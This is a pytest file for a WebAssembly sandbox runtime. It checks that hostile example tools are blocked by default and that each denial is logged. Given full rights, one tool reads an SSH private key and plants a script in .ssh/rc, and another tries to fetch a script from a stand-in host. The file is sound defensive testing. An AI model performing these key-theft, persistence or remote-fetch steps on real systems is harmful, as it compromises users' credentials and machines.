"""The hostile examples: given the rights they do their harm, and without them they report."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
import wasmtime
from workbench import Workbench, ask, workbench

HOSTILE = Path(__file__).resolve().parents[2] / "examples" / "hostile"


def with_tool(directory: Path, name: str) -> Workbench:
    bench = workbench(directory)
    bench.application.keeper.admit(name, str(HOSTILE / name / f"{name}.wasm"), [])
    return bench


def with_all_rights(name: str, arguments: dict[str, Any], directory: Path) -> Any:
    """What a tool answers when a runtime gives it `directory`, under the same name."""
    asked, answered = directory / "asked.json", directory / "answered.json"
    asked.write_text(json.dumps(arguments))
    engine = wasmtime.Engine()
    module = wasmtime.Module.from_file(engine, str(HOSTILE / name / f"{name}.wasm"))
    store = wasmtime.Store(engine)
    rights = wasmtime.WasiConfig()
    rights.argv = [name]
    rights.stdin_file = str(asked)
    rights.stdout_file = str(answered)
    rights.preopen_dir(str(directory), str(directory))
    store.set_wasi(rights)
    linker = wasmtime.Linker(engine)
    linker.define_wasi()
    start = linker.instantiate(store, module).exports(store)["_start"]
    assert isinstance(start, wasmtime.Func)
    start(store)
    return json.loads(answered.read_text())


@pytest.fixture
def victim(tmp_path: Path) -> Path:
    """A home with a key in it."""
    directory = tmp_path / "victim"
    (directory / ".ssh").mkdir(parents=True)
    (directory / ".ssh" / "id_ed25519").write_text("a key\n")
    return directory


@pytest.mark.oracle
def test_notes_writes_its_file_when_it_may(victim: Path) -> None:
    note = victim / "notes.txt"

    answer = with_all_rights("notes", {"path": str(note), "text": "hello"}, victim)

    assert answer == {"outcome": "wrote 5 bytes", "path": str(note)}
    assert note.read_text() == "hello"


@pytest.mark.claim("isolation.recorded")
def test_notes_is_denied_its_file_and_says_so(victim: Path, tmp_path: Path) -> None:
    bench = with_tool(tmp_path, "notes")
    note = victim / "notes.txt"

    outcome = ask(bench.runtime(), "notes", {"path": str(note), "text": "hello"})

    assert outcome.structured == {
        "outcome": "denied: Capabilities insufficient",
        "path": str(note),
    }
    assert not note.exists()
    (event,) = bench.events("capability.denied")
    assert (event["capability"], event["attempted"]) == ("fs.write", str(note))


@pytest.mark.oracle
def test_shell_steals_the_key_and_plants_its_script_when_it_may(victim: Path) -> None:
    answer = with_all_rights("shell", {"script": "echo mine", "home": str(victim)}, victim)

    outcomes = {item["tried"]: item for item in answer["attempts"]}
    key = victim / ".ssh" / "id_ed25519"
    planted = victim / ".ssh" / "rc"
    assert outcomes[f"read {key}"]["content"] == "a key\n"
    assert outcomes[f"write {planted}"]["outcome"] == "wrote"
    assert planted.read_text() == "echo mine"


@pytest.mark.claim("isolation.default-deny")
def test_shell_is_denied_every_attempt_and_learns_nothing(victim: Path, tmp_path: Path) -> None:
    bench = with_tool(tmp_path, "shell")

    outcome = ask(bench.runtime(), "shell", {"script": "echo mine", "home": str(victim)})

    assert outcome.structured is not None
    attempts = outcome.structured["attempts"]
    assert [item["outcome"] for item in attempts] == ["denied: Capabilities insufficient"] * 3
    assert "a key" not in json.dumps(outcome.structured)
    assert not (victim / ".ssh" / "rc").exists()
    assert [
        (event["capability"], event["attempted"]) for event in bench.events("capability.denied")
    ] == [
        ("fs.read", "/bin/sh"),
        ("fs.write", str(victim / ".ssh" / "rc")),
        ("fs.read", str(victim / ".ssh" / "id_ed25519")),
    ]


def test_shell_finds_no_home_of_its_own(tmp_path: Path) -> None:
    bench = with_tool(tmp_path, "shell")

    outcome = ask(bench.runtime(), "shell", {"script": ""})

    assert outcome.structured is not None
    assert outcome.structured["attempts"][1]["tried"].endswith("/.ssh/rc")
    assert outcome.gated.env > 0


@pytest.mark.claim("isolation.default-deny")
def test_fetch_is_denied_name_and_socket_and_says_so(tmp_path: Path) -> None:
    bench = with_tool(tmp_path, "fetch")

    outcome = ask(bench.runtime(), "fetch.fetch", {"url": "http://collector.example/fix.sh"})

    assert outcome.is_error
    assert outcome.content[0].to_json()["text"] == (
        "denied: name lookup access-denied, TCP socket access-denied"
    )
    assert [
        (event["capability"], event["attempted"]) for event in bench.events("capability.denied")
    ] == [("net.dns", "collector.example"), ("net.socket", "tcp ipv4")]


@pytest.mark.parametrize(
    "url", ["", "http:/", "https://a/b", "http://127.0.0.1", "http://" + "a" * 3000 + "/"]
)
def test_fetch_names_the_one_form_of_url_it_takes(url: str, tmp_path: Path) -> None:
    bench = with_tool(tmp_path, "fetch")

    outcome = ask(bench.runtime(), "fetch.fetch", {"url": url})

    text = "the URL is not http://A.B.C.D[:PORT]/PATH"
    assert outcome.content[0].to_json()["text"] == text
    assert outcome.denials == ()
